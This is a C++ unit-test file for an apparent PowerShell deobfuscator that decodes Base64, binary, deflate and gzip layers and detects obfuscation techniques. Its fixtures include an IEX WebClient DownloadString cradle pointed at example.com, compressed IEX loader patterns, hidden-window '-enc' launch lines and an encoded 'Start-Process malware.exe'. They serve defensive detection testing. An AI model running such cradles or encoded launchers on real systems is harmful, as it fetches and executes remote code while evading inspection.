#include "doctest.h"

#include "psdeob/decoder.hpp"
#include "psdeob/detector.hpp"
#include "psdeob/text.hpp"

#include <zlib.h>

using namespace psdeob;

namespace {

LayerType layer_of(const std::string& s) { return detect_layer(ScriptText::from_text(s)).layer; }

// Independent compressor used as the oracle for the inflate path.
std::string zlib_compress(const std::string& in, int window_bits) {
    z_stream zs{};
    REQUIRE(deflateInit2(&zs, Z_BEST_COMPRESSION, Z_DEFLATED, window_bits, 8, Z_DEFAULT_STRATEGY) == Z_OK);
    std::string out(deflateBound(&zs, in.size()) + 32, '\0');
    zs.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(in.data()));
    zs.avail_in = static_cast<uInt>(in.size());
    zs.next_out = reinterpret_cast<Bytef*>(out.data());
    zs.avail_out = static_cast<uInt>(out.size());
    REQUIRE(deflate(&zs, Z_FINISH) == Z_STREAM_END);
    out.resize(zs.total_out);
    deflateEnd(&zs);
    return out;
}

std::string to_binary_groups(const std::string& s) {
    std::string out;
    for (unsigned char c : s) {
        if (!out.empty()) out += ' ';
        for (int b = 7; b >= 0; --b) out += ((c >> b) & 1) ? '1' : '0';
    }
    return out;
}

}  // namespace

TEST_CASE("Base64 against RFC 4648 vectors") {
    const std::pair<const char*, const char*> vectors[] = {
        {"f", "Zg=="}, {"fo", "Zm8="}, {"foo", "Zm9v"}, {"foob", "Zm9vYg=="}, {"fooba", "Zm9vYmE="}, {"foobar", "Zm9vYmFy"},
    };
    for (auto [plain, enc] : vectors) {
        CHECK(base64_encode(plain) == enc);
        CHECK(base64_decode_bytes(enc) == plain);
    }
    CHECK(base64_encode("").empty());
    CHECK_THROWS_AS(base64_decode_bytes(""), DecodeError);
    CHECK(base64_decode_bytes("Zm9v\r\nYmFy") == "foobar");
    CHECK_THROWS_AS(base64_decode_bytes("Zm9"), DecodeError);
    CHECK_THROWS_AS(base64_decode_bytes("Zm!v"), DecodeError);
}

TEST_CASE("bytes_to_text picks UTF-16LE for encoded commands") {
    const std::string utf16 = text::utf8_to_utf16le("Get-Date");
    CHECK(bytes_to_text(utf16, Base64Context::EncodedCommandFlag) == "Get-Date");
    CHECK(bytes_to_text("Get-Date", Base64Context::BareBlob) == "Get-Date");
    try {
        bytes_to_text(std::string("MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0", 16), Base64Context::FromBase64Call);
        FAIL("expected UndecodableBytes");
    } catch (const DecodeError& e) {
        CHECK(e.kind() == DecodeErrorKind::UndecodableBytes);
        CHECK(e.bytes().size() == 16);
    }
}

TEST_CASE("binary groups decode and reject ragged groups") {
    CHECK(binary_decode_bytes(to_binary_groups("Hi!")) == "Hi!");
    CHECK(binary_decode_bytes("01001000,01101001") == "Hi");
    CHECK_THROWS_AS(binary_decode_bytes("0100100 01101001"), DecodeError);
}

TEST_CASE("inflate matches an independent zlib compressor") {
    const std::string payload = "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')";
    CHECK(inflate_bytes(zlib_compress(payload, -15), LayerType::Compression::Deflate) == payload);
    CHECK(inflate_bytes(zlib_compress(payload, 15), LayerType::Compression::Deflate) == payload);
    CHECK(inflate_bytes(zlib_compress(payload, 31), LayerType::Compression::Gzip) == payload);
    CHECK_THROWS_AS(inflate_bytes("not a stream", LayerType::Compression::Gzip), DecodeError);
}

TEST_CASE("detector precedence") {
    const std::string deflate_blob = base64_encode(zlib_compress("Write-Output 'hello'", -15));
    const std::string compressed =
        "IEX (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream]"
        "[Convert]::FromBase64String('" + deflate_blob + "'),[IO.Compression.CompressionMode]::Decompress)),"
        "[Text.Encoding]::ASCII)).ReadToEnd()";
    CHECK(layer_of(compressed) == LayerType::compressed(LayerType::Compression::Deflate));
    CHECK(layer_of(compressed + " + 'a' + 'b'") == LayerType::compressed(LayerType::Compression::Deflate));

    const std::string enc = base64_encode(text::utf8_to_utf16le("Write-Output 'hi'"));
    CHECK(layer_of("powershell.exe -NoP -enc " + enc) == LayerType::encoded(LayerType::Encoding::Base64));
    CHECK(layer_of("pwsh -w hidden -EncodedCommand " + enc) == LayerType::encoded(LayerType::Encoding::Base64));
    CHECK(layer_of("U3RhcnQtUHJvY2VzcyAibWFsd2FyZS5leGUi") == LayerType::encoded(LayerType::Encoding::Base64));
    CHECK(layer_of("$b = '" + to_binary_groups("Write-Output 'bin'") + "'") ==
          LayerType::encoded(LayerType::Encoding::Binary));

    CHECK(layer_of("Write-Output ('a'+'b')") == LayerType::string_based());
    CHECK(layer_of("nEW-oBjECt Net.WebClient") == LayerType::string_based());
    CHECK(layer_of("Write-Output 'ab'") == LayerType::clean());
    CHECK(layer_of("$x = 'abcdefgh'") == LayerType::clean());
}

TEST_CASE("string technique evidence lists live sites only") {
    const auto techs = detect_string_techniques(ScriptText::from_text("S`tart-Process ('a'+'b'); &('iex') 'x'"));
    CHECK(techs == std::vector<TechniqueTag>{TechniqueTag::Concatenation, TechniqueTag::Tick, TechniqueTag::Eval});
    CHECK(detect_string_techniques(ScriptText::from_text("Write-Host \"a`tb\"")).empty());
    CHECK(detect_string_techniques(ScriptText::from_text("'{0}' -f 'a'")) ==
          std::vector<TechniqueTag>{TechniqueTag::Reordering});
}

TEST_CASE("is_base64_shaped") {
    CHECK(is_base64_shaped("Zm9vYmFy", 8));
    CHECK_FALSE(is_base64_shaped("Zm9vYmFy", 12));
    CHECK_FALSE(is_base64_shaped("Zm9vYmF", 4));
    CHECK_FALSE(is_base64_shaped("Zm9v-mFy", 4));
}

TEST_CASE("peel decodes the payload the detector located") {
    const ScriptText s = ScriptText::from_text("U3RhcnQtUHJvY2VzcyAibWFsd2FyZS5leGUi");
    const LayerFinding f = detect_layer(s);
    REQUIRE(f.payload.has_value());
    CHECK(f.payload->blob == s.content);
    CHECK(f.confidence_rank == 1);
    CHECK(peel(s, f).content == "Start-Process \"malware.exe\"");

    LayerFinding none;
    none.layer = LayerType::encoded(LayerType::Encoding::Base64);
    try {
        peel(s, none);
        FAIL("expected PayloadNotFound");
    } catch (const DecodeError& e) {
        CHECK(e.kind() == DecodeErrorKind::PayloadNotFound);
    }
}
